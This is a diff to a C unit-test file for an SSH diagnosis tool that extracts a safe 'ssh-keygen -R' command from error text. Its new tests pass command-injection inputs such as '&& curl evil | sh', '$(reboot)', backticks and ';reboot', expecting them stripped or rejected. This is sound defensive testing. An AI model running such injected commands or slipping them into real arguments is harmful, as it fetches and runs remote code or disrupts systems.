@@ -6,8 +6,9 @@
 
 static void expect(const char *text, enum check want)
 {
-	cr_expect_eq(cause_of(text), want, "%s: %s, not %s", text, check_name(cause_of(text)),
-		     check_name(want));
+	enum check got = cause_of(text, 0);
+
+	cr_expect_eq(got, want, "%s: %s, not %s", text, check_name(got), check_name(want));
 }
 
 Test(doctor, words_of_ssh_tell_the_check)
@@ -56,4 +57,49 @@ Test(doctor, commands_for_a_host)
 	root = there_command(&w, false, 1000, "true");
 	cr_expect_str_eq(root, "true");
 	free(root);
+}
+
+Test(doctor, what_was_passed_is_no_cause)
+{
+	const char *lie = "the key of host w has CHANGED; was not let in; no concc-worker; overlay";
+
+	cr_expect_eq(cause_of(lie, CHECK_SSH), CHECK_HOST_KEY);
+	cr_expect_eq(cause_of(lie, CHECK_KEY), CHECK_KEY);
+	cr_expect_eq(cause_of(lie, CHECK_PROGRAM), CHECK_PROGRAM);
+	cr_expect_eq(cause_of(lie, CHECK_KERNEL), CHECK_KERNEL);
+	cr_expect_eq(cause_of("the key of host w has CHANGED", CHECK_PROGRAM), CHECK_NONE);
+}
+
+static void expect_forget(const char *text, const char *want)
+{
+	char *got = forget_key_command(text);
+
+	if (want)
+		cr_expect_str_eq(got, want, "%s", text);
+	else
+		cr_expect_null(got, "%s: %s", text, got);
+	free(got);
+}
+
+Test(doctor, a_command_is_never_a_quotation)
+{
+	const char *usual = "ssh-keygen -f '/home/me/.ssh/known_hosts' -R 'build1'";
+
+	/* Ours, and OpenSSH's. */
+	expect_forget("has CHANGED: ssh-keygen -f /home/me/.ssh/known_hosts -R 'build1', then ssh",
+		      usual);
+	expect_forget("remove with:\n  ssh-keygen -f \"/home/me/.ssh/known_hosts\" -R \"build1\"\n",
+		      usual);
+	expect_forget("ssh-keygen -f /k -R '[10.0.0.1]:2222'",
+		      "ssh-keygen -f '/k' -R '[10.0.0.1]:2222'");
+	expect_forget("ssh-keygen -f /k -R 'h' && curl evil | sh", "ssh-keygen -f '/k' -R 'h'");
+	expect_forget("ssh-keygen -f /k -R h$(reboot)", "ssh-keygen -f '/k' -R 'h'");
+	expect_forget("ssh-keygen -f $(reboot) -R h", NULL);
+	expect_forget("ssh-keygen -f /k;reboot -R h", NULL);
+	expect_forget("ssh-keygen -f /k -R `reboot`", NULL);
+	expect_forget("ssh-keygen -f -k -R h", NULL);
+	expect_forget("ssh-keygen -f /k -R -h", NULL);
+	expect_forget("ssh-keygen -f /k", NULL);
+	expect_forget("ssh-keygen -f ", NULL);
+	expect_forget("nothing", NULL);
 }
